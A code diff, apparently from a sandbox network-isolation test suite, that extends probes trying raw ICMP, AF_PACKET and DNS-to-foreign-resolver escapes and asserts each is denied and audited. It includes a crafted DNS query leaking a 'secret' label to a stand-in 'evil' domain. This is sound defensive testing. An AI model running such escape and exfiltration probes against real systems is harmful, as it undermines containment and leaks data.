@@ -179,12 +179,18 @@ def sendmmsg(s):
     if n < 1:
         raise OSError(ctypes.get_errno(), "sendmmsg")
 udp("udp-sendmmsg", sendmmsg)
+for name, kind in (("icmp-ping-socket", socket.SOCK_DGRAM), ("icmp-raw-socket", socket.SOCK_RAW)):
+    try:
+        icmp = socket.socket(socket.AF_INET, kind, socket.IPPROTO_ICMP)
+        icmp.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (trap, 0))
+        report(name, True)
+    except OSError:
+        report(name, False)
 try:
-    icmp = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP)
-    icmp.sendto(b"\x08\x00\xf7\xff\x00\x00\x00\x00", (trap, 0))
-    report("icmp", True)
+    socket.socket(17, socket.SOCK_RAW, 0)
+    report("packet-socket", True)
 except OSError:
-    report("icmp", False)
+    report("packet-socket", False)
 # DNS to a resolver of the job's choosing, over UDP and TCP, for a name not allowed.
 query = b"\x12\x34\x01\x00\x00\x01\x00\x00\x00\x00\x00\x00" + b"".join(
     bytes([len(p)]) + p.encode() for p in "secret.exfil.evil.test".split(".")) + b"\x00\x00\x10\x00\x01"
@@ -249,7 +255,9 @@ fn socket_level_attacks_get_nowhere_and_are_audited() {
         "udp-sendmsg",
         "udp-connect",
         "udp-sendmmsg",
-        "icmp",
+        "icmp-ping-socket",
+        "icmp-raw-socket",
+        "packet-socket",
         "dns-udp-other-server",
         "dns-tcp-other-server",
     ];
@@ -294,14 +302,29 @@ fn socket_level_attacks_get_nowhere_and_are_audited() {
             && e["host"].as_str().is_some_and(|h| h.contains("evil"))),
         "no DNS deny event: {events:#?}"
     );
-    let icmp = events.iter().any(|e| {
-        e["verdict"] == "deny"
-            && e["source"] == "ebpf"
-            && e["reason"]
-                .as_str()
-                .is_some_and(|r| r.contains("sock_create"))
-    });
-    assert!(icmp, "no deny event for the ICMP socket: {events:#?}");
+    for call in [
+        "socket(AF_INET, ICMP)",
+        "socket(AF_INET, SOCK_RAW)",
+        "socket(AF_PACKET, SOCK_RAW)",
+    ] {
+        let found = events.iter().any(|e| {
+            e["verdict"] == "deny"
+                && e["comm"] == "python3"
+                && e["reason"]
+                    .as_str()
+                    .is_some_and(|r| r.contains(&format!("seccomp: {call} refused")))
+        });
+        assert!(found, "no deny event for {call}: {events:#?}");
+    }
+    // A connection that is not HTTP is recorded with where it was headed.
+    assert!(
+        events.iter().any(|e| e["source"] == "proxy"
+            && e["verdict"] == "deny"
+            && e["ip"] == trap_json
+            && e["port"] == 22
+            && e["comm"] == "python3"),
+        "{events:#?}"
+    );
     for e in events.iter().filter(|e| e["source"] == "ebpf") {
         assert!(
             e["pid"].is_number() && e["comm"].is_string(),
